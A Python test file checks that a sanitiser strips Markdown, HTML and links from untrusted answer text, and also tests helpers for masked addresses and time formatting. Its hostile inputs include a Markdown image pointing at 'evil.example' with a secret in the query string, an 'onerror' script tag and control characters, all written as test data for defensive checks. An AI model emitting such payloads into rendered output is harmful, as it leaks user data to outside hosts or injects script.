"""Text from elsewhere in an answer: it can say what it likes, and do nothing (security-tests F1, F4)."""

import re
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from shared.answers import count, day, masked_address, masked_number, moment, plain, relative, span

MARKDOWN = MarkdownIt("commonmark").enable("table").enable("strikethrough")
NOW = datetime(2026, 11, 23, 22, 37, tzinfo=UTC)


def structures(text: str) -> set[str]:
    """What Markdown makes of a text beside words, in a list item as answers use it."""
    tokens = MARKDOWN.parse(f"- Name: {text}")
    found = {token.type for token in tokens} | {child.type for token in tokens for child in token.children or ()}
    return found - {
        *("bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close"),
        *("paragraph_open", "paragraph_close", "inline", "text", "text_special"),
    }


@pytest.mark.requirement("F4")
@pytest.mark.parametrize(
    "hostile",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](https://evil.example)",
        "[click]: https://evil.example",
        "<https://evil.example>",
        "<img src=x onerror=alert(1)>",
        "<b>bold</b>",
        "**bold** __strong__ *em* _em_ ~~gone~~",
        "`code` ```fence```",
        "name\n\n# Heading\n\n- item",
        "name\r\n> quote",
        "a | b\n--|--\nc | d",
        "\\![x](y)",
        "\\\\[x](y)",
        "# heading",
        "1. item",
        "- item",
        "+ item",
        "===",
        "---",
        "\u202e\u2066reversed\u200b",
        "\x1b[31mred\x07",
    ],
)
def test_markdown_makes_nothing_of_it(hostile: str) -> None:
    assert structures(plain(hostile)) == set()
    assert structures(f"**{plain('x')}** {plain(hostile)}") <= {"strong_open", "strong_close"}
    items = MARKDOWN.parse(f"- {plain(hostile)}")
    assert [token.type for token in items].count("list_item_open") == 1


@pytest.mark.requirement("F4")
@given(st.text(max_size=120))
def test_markdown_makes_nothing_of_any_text(text: str) -> None:
    shown = plain(text, limit=200)

    assert structures(shown) == set()
    assert "\n" not in shown
    assert shown.isprintable()


@pytest.mark.requirement("F4")
@pytest.mark.parametrize(
    "url", ["https://evil.example", "HTTP://evil.example", "www.evil.example", "ftp://evil.example"]
)
def test_no_address_is_left_that_a_viewer_would_make_a_link_of(url: str) -> None:
    assert not re.search(r"(?i)(https?|ftp)://|\bwww\.", plain(f"see {url} now"))


@pytest.mark.parametrize(
    "name",
    ["Amelia Hart", "O'Brien-Smith & Sons", "Grete Lindqvist", "José Ñandú", "梅 莉", "a_b@c.example", "C++ (3)"],
)
def test_names_stay_as_they_are(name: str) -> None:
    assert plain(name) == name


def test_a_long_text_is_cut_and_an_empty_one_said() -> None:
    assert plain("x" * 100, limit=10) == "x" * 9 + "…"
    assert plain(None) == plain(" \n\u200b") == "not set"
    assert plain("", missing="") == ""


def test_addresses_and_numbers_are_masked() -> None:
    assert masked_address("amelia@post.example") == "a•••@post.example"
    assert masked_address("nonsense") == masked_address("") == "•••"
    assert masked_address("[x](y)@[z](https://evil.example)").count("[") == masked_address("[x](y)@[z](e)").count("\\[")
    assert masked_number("+44 7700 900104") == "•••04"
    assert masked_number("none") == "•••"


def test_times_are_in_words_and_in_utc() -> None:
    assert moment(datetime.fromisoformat("2026-11-24T00:05:00+02:00")) == "Monday 23 November 2026, 22:05 UTC"
    assert day(NOW) == "23 November 2026"
    assert relative(NOW - timedelta(minutes=40), NOW) == "40 minutes ago"
    assert relative(NOW + timedelta(days=12), NOW) == "in 12 days"
    assert count(1, "day") == "1 day"


@pytest.mark.parametrize(
    ("length", "words"),
    [
        (timedelta(seconds=5), "less than a minute"),
        (timedelta(minutes=1), "1 minute"),
        (timedelta(minutes=119), "119 minutes"),
        (timedelta(hours=2), "2 hours"),
        (timedelta(days=2), "2 days"),
        (timedelta(days=100), "3 months"),
    ],
)
def test_a_span_is_said_in_the_unit_that_fits(length: timedelta, words: str) -> None:
    assert span(length) == words
